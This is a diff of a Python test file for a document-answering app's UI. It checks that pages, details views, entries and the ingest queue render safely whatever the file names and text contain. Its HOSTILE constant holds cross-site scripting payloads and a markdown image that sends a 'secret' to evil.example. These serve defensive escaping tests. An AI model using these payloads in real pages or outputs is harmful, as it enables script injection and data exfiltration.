@@ -1,11 +1,33 @@
 """What the page shows is text: whatever documents, file names and the model say, at every moment of an answer."""
 
+from dataclasses import replace
+from pathlib import Path
+
 import pytest
 from scripted import make_document, make_hit
 from selectolax.lexbor import LexborHTMLParser
 
-from ragdesk.types import Answer, Citation, QuoteBox, Sentence, Timings
-from ragdesk.ui import render, render_chat, render_citations, render_library
+from ragdesk.intake import IntakeState
+from ragdesk.types import (
+    Answer,
+    Citation,
+    Entry,
+    IngestProgress,
+    IngestResult,
+    Job,
+    QuoteBox,
+    Sentence,
+    Timings,
+)
+from ragdesk.ui import (
+    render,
+    render_chat,
+    render_citations,
+    render_details,
+    render_entries,
+    render_library,
+    render_queue,
+)
 
 HOSTILE = (
     "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) [go](javascript:alert(1)) <svg/onload=alert(1)> "
@@ -82,7 +104,40 @@ def test_finished_answers_evidence_and_citations_are_harmless(verdict: str) -> N
     harmless(render_citations.gone(citation()))
     harmless(render_citations.passage(HOSTILE * 3, 10, 40))
     harmless(render_library.hits(list(given.hits), {"d" * 16: HOSTILE}, HOSTILE))
-    harmless(render_library.documents([make_document(name=HOSTILE)], "", ""))
+    document = make_document(name=HOSTILE)
+    harmless(render_library.documents([document]))
+    harmless(render_library.documents([document], "", render_library.Removing(document.id, 2, 3)))
+
+
+def test_details_and_entries_are_harmless() -> None:
+    document = replace(make_document(name=HOSTILE), description=HOSTILE, sources=(HOSTILE,), title=HOSTILE)
+    document = replace(document, collections=(HOSTILE,), properties=((HOSTILE, HOSTILE),))
+    parts = [render_details.Inside(HOSTILE, "a" * 16, ""), render_details.Inside(HOSTILE, None, HOSTILE)]
+    harmless(render_details.details(document, [make_hit(HOSTILE).chunk], [document], parts))
+    for state in ("proposed", "approved", "rejected"):
+        entry = Entry("e" * 16, state, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
+        harmless(render_entries.entries([entry]))
+        harmless(render_entries.entries([entry], entry.id))
+    harmless(render_entries.saved())
+
+
+def test_a_removal_says_how_many_answers_quote_the_document() -> None:
+    shown = render_library.documents([make_document()], "", render_library.Removing("d" * 16, 2, 1))
+    assert "2 files inside of it" in shown and "also delete 1 answer that quotes it" in shown
+    assert "also delete" not in render_library.documents(
+        [make_document()], "", render_library.Removing("d" * 16)
+    )
+
+
+def test_the_page_of_a_text_is_text_with_the_quote_marked() -> None:
+    page = render_details.text_page(make_document(name=HOSTILE), HOSTILE, 4, 20)
+    tree = LexborHTMLParser(page)
+    assert tree.body is not None
+    assert {node.tag for node in tree.body.traverse()} <= {"body", "h1", "p", "div", "mark"}
+    [mark] = tree.css("#quote")
+    assert mark.text() == HOSTILE[4:20]
+    [text] = tree.css("div")
+    assert text.text() == HOSTILE
 
 
 def test_a_sentence_without_support_looks_different_and_says_so() -> None:
@@ -109,3 +164,93 @@ def test_names_lose_what_would_reorder_them() -> None:
 def test_actions_survive_the_way_through_the_page() -> None:
     address = render.action("chat", "open", "a:b#c", "ü %/")
     assert render.read_action(address.removeprefix("#rd:chat:") + "#7") == ["open", "a:b#c", "ü %/"]
+
+
+# ---------------------------------------------------------------- the queue
+
+EMPTY = IntakeState(False, None, (), (), (), None, None, "")
+
+
+def job(number: int, name: str, **more: object) -> Job:
+    values = {"path": Path("/kept"), "source": f"dropped/{number:016x}/{name}", "name": name, "batch": "app"}
+    return Job(**(values | {"id": number} | more))  # type: ignore[arg-type]
+
+
+def result(path: str, status: str = "ready", problem: str | None = None) -> IngestResult:
+    found = None if status == "failed" else "d" * 16
+    return IngestResult(path, found, path, status, 1, 3, 0.5, problem)  # type: ignore[arg-type]
+
+
+def test_nothing_is_shown_of_an_empty_queue() -> None:
+    for part in (render_queue.progress, render_queue.waiting, render_queue.finished, render_queue.said):
+        assert part(EMPTY) == ""
+    assert render_queue.held(EMPTY, 0) == ""
+
+
+def test_the_queue_is_harmless_whatever_files_are_called() -> None:
+    jobs = (job(1, HOSTILE), job(2, HOSTILE, container=HOSTILE, source=f"{HOSTILE}!/{HOSTILE}"))
+    state = IntakeState(
+        True,
+        IngestProgress(jobs[0].source, HOSTILE, 0.5, 1, 3),  # type: ignore[arg-type]
+        jobs,
+        (job(3, HOSTILE, problem=HOSTILE),),
+        (result(HOSTILE), result(HOSTILE + "2", "failed", HOSTILE)),
+        3.0,
+        100.0,
+        HOSTILE,
+    )
+    for part in (render_queue.progress, render_queue.waiting, render_queue.finished, render_queue.said):
+        harmless(part(state))
+    harmless(render_queue.held(state, 0))
+    harmless(render_queue.held(state, 3))
+    harmless(render_queue.problems([(HOSTILE, HOSTILE)]))
+    harmless(render_queue.folders({HOSTILE: HOSTILE}))
+
+
+def test_the_file_in_hand_is_shown_once_with_its_stage_and_can_be_cancelled() -> None:
+    first, second = job(1, "first.md"), job(2, "second.md")
+    state = replace(
+        EMPTY, waiting=(first, second), progress=IngestProgress(first.source, "encoding", 0.25, 7, 9)
+    )
+    shown = render_queue.progress(state)
+    assert "7 done" in shown and "2 to come" in shown and 'value="25"' in shown
+    assert "first.md" in shown and "#rd:queue:cancel:1" in shown and "#rd:queue:cancel-all" in shown
+    assert "first.md" not in render_queue.waiting(state)
+    assert "#rd:queue:cancel:2" in render_queue.waiting(state)
+
+
+def test_a_long_queue_is_cut_and_counted() -> None:
+    state = replace(EMPTY, waiting=tuple(job(number, f"{number}.md") for number in range(1, 1_201)))
+    assert render_queue.waiting(state).count("<li>") == render_queue.SHOWN
+    assert "and 1,100 more" in render_queue.waiting(state)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "words"),
+    [
+        (3, "less than a minute left"),
+        (61, "about 1 minute left"),
+        (170, "about 3 minutes left"),
+        (8_000, "about 2 hours left"),
+    ],
+)
+def test_time_left_is_said_roughly(seconds: float, words: str) -> None:
+    assert render_queue.time_left(seconds) == words
+
+
+def test_of_a_file_that_was_tried_again_only_the_last_result_counts() -> None:
+    state = replace(EMPTY, finished=(result("/a.pdf", "failed", "locked"), result("/b.md"), result("/a.pdf")))
+    assert render_queue.summary(render_queue.outcomes(state)) == "2 files taken in"
+    held = replace(
+        state, finished=state.finished[:2], held=(job(1, "a.pdf", source="/a.pdf", problem="locked"),)
+    )
+    assert render_queue.summary(render_queue.outcomes(held)) == "1 file taken in"
+
+
+def test_sources_are_named_as_a_person_knows_them() -> None:
+    assert render_queue.shown_path("dropped/0123456789abcdef/note.md") == "note.md"
+    assert render_queue.shown_path("faq/0123456789abcdef") == "question and answer"
+    assert render_queue.file_name("/mails/a.eml!/list.pdf").startswith("<bdi>list.pdf</bdi>")
+    assert "in <bdi>a.eml</bdi>" in render_queue.file_name("/mails/a.eml!/list.pdf")
+    assert "Stop all" in render_queue.progress(replace(EMPTY, waiting=(job(1, "a"),), problem="No embedder."))
+    assert "stands still" in render_queue.progress(replace(EMPTY, problem="No embedder."))
